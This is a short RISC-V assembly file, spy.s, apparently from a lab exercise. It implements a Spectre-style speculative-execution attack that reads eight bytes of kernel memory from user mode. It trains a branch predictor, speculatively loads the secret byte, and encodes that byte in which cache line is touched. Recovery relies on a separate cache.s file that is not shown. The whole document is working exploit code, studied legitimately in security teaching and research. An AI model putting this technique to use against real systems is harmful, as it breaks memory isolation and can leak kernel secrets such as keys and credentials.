# spy.s - reads eight bytes of the kernel's memory. User mode may not.

        .bss
        .balign 8
        .globl  recovered, answered
recovered: .skip 8                      # the first eight bytes of the kernel's secret
answered: .skip 8                       # how many of them the clock has told
zero:   .skip   8

        .text
        .globl  main
main:                                   # a2 = where the kernel keeps its secret: it tells every program
        addi    sp, sp, -16
        sd      ra, 8(sp)
        mv      a0, a2
        la      a1, recovered
        li      a2, 8
        la      a3, transmit
        call    read_bytes              # cache.s
        la      t0, answered
        sd      a0, 0(t0)
        ld      ra, 8(sp)
        addi    sp, sp, 16
        li      a0, 0
        ret

# transmit(a0 = address): has the line used whose number is the byte there, and survives.
transmit:
        addi    sp, sp, -32
        sd      ra, 24(sp)
        sd      s0, 16(sp)
        sd      s1, 8(sp)
        mv      s0, a0
        li      s1, 4
1:      la      a0, zero                # four times for a byte of our own, with a line that does not matter
        la      a1, unimportant
        li      a2, 1
        call    maybe
        addi    s1, s1, -1
        bnez    s1, 1b
        mv      a0, s0                  # and now for the kernel's, not at all
        la      a1, lines
        li      a2, 0
        call    maybe
        ld      ra, 24(sp)
        ld      s0, 16(sp)
        ld      s1, 8(sp)
        addi    sp, sp, 32
        ret

# maybe(a0 = address, a1 = lines, a2 = 1 or 0): if a2 is not 0, uses the line (of those at a1) whose number is the byte at the address
maybe:
        beqz    a2, 1f
        lbu     t0, 0(a0)
        slli    t0, t0, 9
        add     t0, t0, a1
        lbu     t0, 0(t0)
1:
        ret
